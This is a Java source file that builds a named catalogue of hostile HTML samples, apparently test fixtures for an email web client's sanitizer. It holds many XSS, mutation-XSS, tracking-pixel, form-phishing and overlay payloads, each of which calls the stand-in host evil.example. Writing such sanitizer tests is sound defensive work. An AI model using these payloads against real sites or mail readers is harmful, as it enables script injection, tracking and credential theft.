package portineria.webui;

import java.util.LinkedHashMap;
import java.util.Map;

/**
 * What mail tries on who reads it: kinds of HTML that would run a script, load something from
 * elsewhere, send something there, or cover what is around the message. Each has its own address
 * under {@link #EVIL}, so that a request tells which one made it; scripts ask for it, too.
 */
final class HostileHtml {
  static final String EVIL = "http://evil.example/";

  /** By name; each is preceded by a harmless text. */
  static final Map<String, String> KINDS = kinds();

  private HostileHtml() {}

  private static Map<String, String> kinds() {
    Kinds kinds = new Kinds();
    scripts(kinds);
    handlers(kinds);
    addresses(kinds);
    remote(kinds);
    sheets(kinds);
    forms(kinds);
    frames(kinds);
    foreign(kinds);
    styles(kinds);
    mutations(kinds);
    broken(kinds);
    return kinds.all;
  }

  /** In every text, URL stands for the kind's own address, RUN for a script that asks for it. */
  private static final class Kinds {
    final Map<String, String> all = new LinkedHashMap<>();

    void add(String name, String html) {
      String url = EVIL + name;
      String run = "fetch('" + url + "',{mode:'no-cors'})";
      String before = all.put(name, "<p>Hello</p>" + html.replace("RUN", run).replace("URL", url));
      if (before != null) {
        throw new IllegalStateException("twice: " + name);
      }
    }
  }

  private static void scripts(Kinds kinds) {
    kinds.add("script", "<script>RUN</script>");
    kinds.add("script-src", "<script src=URL></script>");
    kinds.add("script-upper", "<SCRIPT TYPE=text/javascript>RUN</SCRIPT >");
    kinds.add("script-module", "<script type=module>import 'URL'</script>");
    kinds.add("script-slash", "<script/x>RUN</script>");
    kinds.add("script-nested", "<scr<script>ipt>RUN</scr</script>ipt>");
    kinds.add("script-in-table", "<table><tr><script>RUN</script><td>x</td></tr></table>");
    kinds.add(
        "noscript", "<noscript><p title=\"</noscript><img src=URL onerror=RUN>\"></noscript>");
    kinds.add("template", "<template><script>RUN</script></template>");
  }

  private static void handlers(Kinds kinds) {
    kinds.add("onerror", "<img src=x: onerror=\"RUN\">");
    kinds.add("onload-body", "<body onload=\"RUN\">x</body>");
    kinds.add("onmouseover", "<b onmouseover=\"RUN\">x</b>");
    kinds.add("onfocus", "<a href=#x autofocus tabindex=1 onfocus=\"RUN\">x</a>");
    kinds.add("ontoggle", "<details open ontoggle=\"RUN\">x</details>");
    kinds.add("onanimation", "<p style='animation:x 1s' onanimationstart=\"RUN\">x</p>");
    kinds.add("handler-slashes", "<img/src=x:/onerror=RUN>");
    kinds.add("handler-newline", "<img src=x:\nonerror\n=\n\"RUN\">");
    kinds.add("handler-nul", "<img src=x: on\0error=\"RUN\" onerror\0=\"RUN\" onerror=RUN>");
    kinds.add(
        "handler-quotes",
        "<img title='\"' alt=\"'\" src=x: onerror='RUN'//\">".replace("'RUN'", "RUN"));
    kinds.add("marquee", "<marquee onstart=\"RUN\">x</marquee>");
  }

  private static void addresses(Kinds kinds) {
    kinds.add("javascript", "<a href=\"javascript:RUN\">x</a>");
    kinds.add("javascript-entities", "<a href=\"jav&#x61;script&colon;RUN\">x</a>");
    kinds.add("javascript-tab", "<a href=\" jav\tascr\nipt:RUN\">x</a>");
    kinds.add("javascript-control", "<a href=\"\u0001javascript:RUN\">x</a>");
    kinds.add("vbscript", "<a href='vbscript:msgbox(1)'>x</a>");
    kinds.add("data-html", "<a href=\"data:text/html,<script>RUN</script>\">x</a>");
    kinds.add(
        "data-image-svg",
        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>\">");
    kinds.add("data-image-own", "<img src=\"data:image/png;base64,AAAA\">");
    kinds.add("javascript-img", "<img src=\"javascript:RUN\">");
    kinds.add("link-target", "<a href=URL target=_top ping=URL>x</a>");
    kinds.add(
        "area",
        "<map name=m><area shape=default href=\"javascript:RUN\"></map><img usemap=#m src=URL>");
  }

  private static void remote(Kinds kinds) {
    kinds.add("img", "<img src=URL>");
    kinds.add("img-scheme-less", "<img src=//evil.example/img-scheme-less>");
    kinds.add("img-relative", "<img src=/logout>");
    kinds.add("image", "<image src=URL>");
    kinds.add("input-image", "<input type=image src=URL>");
    kinds.add("srcset", "<img srcset='URL 1x, URL 2x'>");
    kinds.add("picture", "<picture><source srcset=URL><img src=URL></picture>");
    kinds.add("lowsrc", "<img lowsrc=URL dynsrc=URL longdesc=URL>");
    kinds.add("background", "<body background=URL>x</body>");
    kinds.add(
        "background-cell", "<table background=URL><tr><td background=URL>x</td></tr></table>");
    kinds.add("poster", "<video poster=URL></video>");
    kinds.add("video", "<video src=URL autoplay><track src=URL><source src=URL></video>");
    kinds.add("audio", "<audio src=URL autoplay></audio>");
    kinds.add("bgsound", "<bgsound src=URL>");
    kinds.add("cite", "<blockquote cite=URL>x</blockquote><q cite=URL>y</q>");
    kinds.add("cid-unknown", "<img src=cid:nothing><img src=\"cid:x onerror=RUN\">");
  }

  private static void sheets(Kinds kinds) {
    kinds.add("link-sheet", "<link rel=stylesheet href=URL>");
    kinds.add("link-prefetch", "<link rel=prefetch href=URL><link rel=dns-prefetch href=URL>");
    kinds.add("link-preload", "<link rel=preload as=image href=URL><link rel=icon href=URL>");
    kinds.add("style-import", "<style>@import url(URL);</style>");
    kinds.add("style-import-text", "<style>@import 'URL';</style>");
    kinds.add(
        "style-font", "<style>@font-face{font-family:x;src:url(URL)}p{font-family:x}</style>");
    kinds.add("style-broken", "<style><!--</style><img src=URL>--></style>");
    kinds.add("meta-refresh", "<meta http-equiv=refresh content='0;url=URL'>");
    kinds.add(
        "meta-policy",
        "<meta http-equiv=Content-Security-Policy content=\"img-src *\"><img src=URL>");
    kinds.add("base", "<base href=URL/><img src=x>");
  }

  private static void forms(Kinds kinds) {
    kinds.add(
        "form",
        "<form action=URL><input name=password type=password><button>Log in</button></form>");
    kinds.add(
        "form-formaction", "<button formaction=URL>x</button><input type=submit formaction=URL>");
    kinds.add(
        "form-javascript", "<form action=\"javascript:RUN\"><input type=submit autofocus></form>");
    kinds.add("isindex", "<isindex action=\"javascript:RUN\" type=image>");
    kinds.add("textarea", "<textarea><img src=URL></textarea><select><option>x</select>");
    kinds.add("keygen", "<keygen autofocus onfocus=\"RUN\"><label for=x>y</label>");
  }

  private static void frames(Kinds kinds) {
    kinds.add("iframe", "<iframe src=URL></iframe>");
    kinds.add(
        "iframe-srcdoc",
        "<iframe srcdoc='<script>RUN</script>'></iframe>"
            .replace("'<", "\"<")
            .replace(">'", ">\""));
    kinds.add(
        "frameset", "<iframe srcdoc=\"<frameset onload=RUN><frame src=URL></frameset>\"></iframe>");
    kinds.add("object", "<object data=URL type=text/html></object>");
    kinds.add("embed", "<embed src=URL type=image/svg+xml>");
    kinds.add("applet", "<applet code=x codebase=URL archive=URL></applet>");
    kinds.add("portal", "<portal src=URL></portal><fencedframe src=URL></fencedframe>");
  }

  private static void foreign(Kinds kinds) {
    kinds.add("svg-script", "<svg><script>RUN</script></svg>");
    kinds.add("svg-onload", "<svg onload=\"RUN\">");
    kinds.add("svg-image", "<svg><image href=URL xlink:href=URL /></svg>");
    kinds.add("svg-use", "<svg><use href=\"URL#x\" /></svg>");
    kinds.add(
        "svg-animate",
        "<svg><a><animate attributeName=href values=\"javascript:RUN\" /><text>x</text></a></svg>");
    kinds.add("svg-foreign", "<svg><foreignObject><img src=URL></foreignObject></svg>");
    kinds.add("svg-style", "<svg><style>*{background:url(URL)}</style></svg>");
    kinds.add("math", "<math href=\"javascript:RUN\">x</math>");
    kinds.add(
        "math-annotation",
        "<math><annotation-xml encoding=text/html><img src=URL></annotation-xml></math>");
    kinds.add("xml", "<?xml version=1.0?><?xml-stylesheet href=\"URL\"?><xss onclick=RUN>x</xss>");
    kinds.add(
        "custom-element", "<x-frame is=y onclick=\"RUN\" style='background:url(URL)'>x</x-frame>");
  }

  private static void styles(Kinds kinds) {
    kinds.add("css-url", "<p style=\"background:url(URL)\">x</p>");
    kinds.add("css-url-quotes", "<p style=\"background-image:url( 'URL' )\">x</p>");
    kinds.add("css-url-escaped", "<p style=\"background:\\75\\72\\6c(URL)\">x</p>");
    kinds.add(
        "css-url-comment",
        "<p style=\"background:u/**/rl(URL);color:red/**/;list-style:url(URL)\">x</p>");
    kinds.add(
        "css-image-set",
        "<p style=\"background:image-set('URL' 1x);border-image:url(URL) 1\">x</p>");
    kinds.add("css-cursor", "<p style=\"cursor:url(URL),auto;content:url(URL)\">x</p>");
    kinds.add("css-expression", "<p style=\"width:expression(RUN)\">x</p>");
    kinds.add("css-expression-split", "<p style=\"width:ex/*x*/pression(RUN)\">x</p>");
    kinds.add("css-behavior", "<p style=\"behavior:url(URL);-moz-binding:url(URL)\">x</p>");
    kinds.add(
        "css-fixed",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Log in</div>");
    kinds.add(
        "css-absolute", "<div style=\"POSITION : absolute ! important;z-index:9999\">x</div>");
    kinds.add("css-margin", "<div style=\"margin:-999px;transform:scale(99);opacity:0\">x</div>");
    kinds.add("css-variable", "<p style=\"--x:url(URL);background:var(--x)\">x</p>");
    kinds.add("css-break-out", "<p style=\"color:red}</style><img src=URL>\">x</p>");
    kinds.add("css-class", "<p class=top id=content>x</p>");
  }

  private static void mutations(Kinds kinds) {
    kinds.add("mxss-noscript", "<noscript><style></noscript><img src=URL onerror=\"RUN\"></style>");
    kinds.add(
        "mxss-math",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=URL onerror=RUN&gt;\">");
    kinds.add("mxss-svg", "<svg></p><style><a id=\"</style><img src=URL onerror=RUN>\">");
    kinds.add(
        "mxss-form",
        "<form><math><mtext></form><form><mglyph><style></math><img src=URL onerror=RUN>");
    kinds.add(
        "mxss-listing",
        "<listing>&lt;img src=URL onerror=RUN&gt;</listing><xmp><img src=URL></xmp>");
    kinds.add("mxss-title", "<title><a title=\"</title><img src=URL onerror=RUN>\"></title>");
    kinds.add("mxss-backtick", "<img src=\"x:` `\" alt=\"`` onerror=RUN\" onerror=RUN>");
    kinds.add(
        "mxss-select",
        "<select><template><style><!--</template><a rel=\"--></style></select><img src=URL onerror=RUN>\">");
    kinds.add("plaintext", "<plaintext><img src=URL onerror=RUN>");
  }

  private static void broken(Kinds kinds) {
    kinds.add("unclosed-tag", "<img src=URL onerror=\"RUN\"");
    kinds.add("unclosed-quote", "<img src=\"URL");
    kinds.add("unclosed-script", "<script>RUN");
    kinds.add("comment", "<!-- <img src=URL> --!><img src=URL><!-- x");
    kinds.add(
        "comment-conditional", "<!--[if gte IE 4]><script>RUN</script><![endif]--><img src=URL>");
    kinds.add("cdata", "<![CDATA[<img src=URL>]]><svg><![CDATA[><img src=URL>]]></svg>");
    kinds.add("close-body", "</div></body></html><img src=URL>");
    kinds.add("nul", "<im\0g src=URL><scr\0ipt>RUN</scr\0ipt><img src=URL>");
    kinds.add(
        "entities",
        "&lt;b&gt;x<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN\">y</a>");
    kinds.add(
        "double-entities",
        "&amp;lt;img src=URL&amp;gt;<img src='&#104;ttp://evil.example/double-entities'>");
    kinds.add("wide-brackets", "\uFF1Cscript\uFF1ERUN\uFF1C/script\uFF1E<img src=URL>");
    kinds.add("duplicate-attributes", "<img src=cid:logo src=URL SRC=URL>");
    kinds.add("deep", "<div>".repeat(3000) + "<img src=URL>");
  }
}
